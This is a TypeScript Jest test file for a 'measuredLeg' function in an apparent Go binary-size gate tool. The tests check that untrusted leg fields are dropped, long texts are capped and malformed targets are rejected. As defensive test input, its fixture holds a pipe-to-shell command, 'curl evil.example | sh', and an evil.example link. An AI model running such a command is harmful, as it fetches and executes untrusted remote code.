import { describe, expect, it } from '@jest/globals'
import type { LegResult } from '../../../src/gate/legs/leg-result.ts'
import { measuredLeg } from '../../../src/gate/legs/measured-leg.ts'
import type { Build } from '../../../src/core/model/measurement.ts'
import { measurement } from '../../store/entries.ts'

const { build } = measurement
const base = 'b'.repeat(40)

const result: LegResult = {
  schemaVersion: 1,
  repository: 'o/r',
  key: '',
  name: 'linux',
  commit: 'c'.repeat(40),
  head: 'a'.repeat(40),
  base,
  fingerprint: 'f',
  leg: {
    occasion: 'push',
    base: {
      kind: 'found',
      baseline: { source: 'rebuild', commit: base, chosenBy: 'x', run: '' },
      measurements: [measurement],
      goBefore: null
    },
    head: [measurement],
    recorded: true,
    notBuilt: [],
    reproductions: []
  },
  provenance: {
    tool: 'go-size-gate 9.9.9',
    mode: 'gate',
    event: 'push',
    headCommit: base,
    overrides: [],
    relaxations: [],
    passedThrough: [],
    modulesReused: 1,
    modulesFetched: 2,
    verified: true,
    notices: [],
    reproduce: 'curl evil.example | sh'
  }
}

function legOf(more: Partial<LegResult['leg']>) {
  return measuredLeg({ ...result, leg: { ...result.leg, ...more } })
}

function ofBuild(made: Build | null) {
  return { head: [{ ...measurement, build: made }] }
}

function givenLeg(target: { readonly goos: string; readonly goarch: string }) {
  const binary = { ...measurement.binary, ...target }
  const head = [{ ...measurement, binary, build: null }]
  const given = { binaries: [], passedOver: 0 }
  return measuredLeg({
    ...result,
    leg: { ...result.leg, head },
    provenance: { ...result.provenance, given }
  })
}

function claimed(more: Partial<LegResult['provenance']>) {
  const provenance = { ...result.provenance, ...more }
  return measuredLeg({ ...result, provenance }).claims.buildCache
}

describe('measuredLeg', () => {
  it('leaves out event, base, record, tool and command of a leg', () => {
    expect(measuredLeg(result)).toEqual({
      isGiven: false,
      name: 'linux',
      fingerprint: 'f',
      head: [measurement],
      notBuilt: [],
      reproductions: [],
      claims: {
        overrides: [],
        relaxations: [],
        passedThrough: [],
        notices: [],
        modulesReused: 1,
        modulesFetched: 2,
        verified: true,
        buildCache: null
      }
    })
  })

  it('takes what a leg says of its build cache in bounds, and no link', () => {
    const buildCache = {
      commit: 'd'.repeat(5000),
      run: 'https://evil.example',
      createdAt: 'x'.repeat(5000),
      packBytes: 3,
      reused: 2,
      compiled: 1
    }
    expect(claimed({ buildCache })).toEqual({
      pack: {
        commit: `${'d'.repeat(300)}…`,
        packBytes: 3,
        reused: 2,
        compiled: 1
      },
      note: ''
    })
    expect(
      claimed({ buildCache: null, buildCacheNote: 'n'.repeat(5000) })
    ).toEqual({ pack: null, note: `${'n'.repeat(300)}…` })
  })

  it('bounds the texts of a leg, and names it as who says them', () => {
    const row = { mainPackage: 'm', target: 't', reason: 'x'.repeat(5000) }
    const { notBuilt } = legOf({
      notBuilt: Array.from({ length: 500 }, () => row)
    })
    expect(notBuilt).toHaveLength(200)
    expect(notBuilt[0]?.reason).toBe(`${'x'.repeat(300)}… (says the leg linux)`)
    const { claims } = measuredLeg({
      ...result,
      provenance: { ...result.provenance, notices: Array(1000).fill('n') }
    })
    expect(claims.notices).toHaveLength(21)
    expect(claims.notices.at(-1)).toBe('and 980 more')
  })

  it('takes a reproduction that failed, and none that proves something', () => {
    const one = {
      mainPackage: 'm',
      target: 'linux/amd64',
      identical: true,
      sha256: ['a', 'b'] as const,
      differing: []
    }
    const failed = { ...one, identical: false, differing: ['.text'] }
    const { reproductions } = legOf({ reproductions: [one, failed] })
    expect(reproductions).toEqual([failed])
  })

  it.each([
    { goos: 'linux', goarch: 'amd64' },
    { goos: '', goarch: '' }
  ])('takes given binaries for a target, or an unknown one: %j', (target) => {
    expect(givenLeg(target).isGiven).toBe(true)
  })

  it('refuses given binaries for a target that is none', () => {
    expect(() => givenLeg({ goos: 'a b', goarch: 'amd64' })).toThrow(
      'target "a b/amd64" is not of the form'
    )
  })

  it.each([
    [
      'says nothing of its build',
      null,
      'does not say how its binary was built'
    ],
    ['has a target that is none', 'x', 'x']
  ])('refuses a leg of which a measurement %s', (_, target, why) => {
    const made = target === null || build === null ? null : { ...build, target }
    expect(() => legOf(ofBuild(made))).toThrow(why)
  })
})
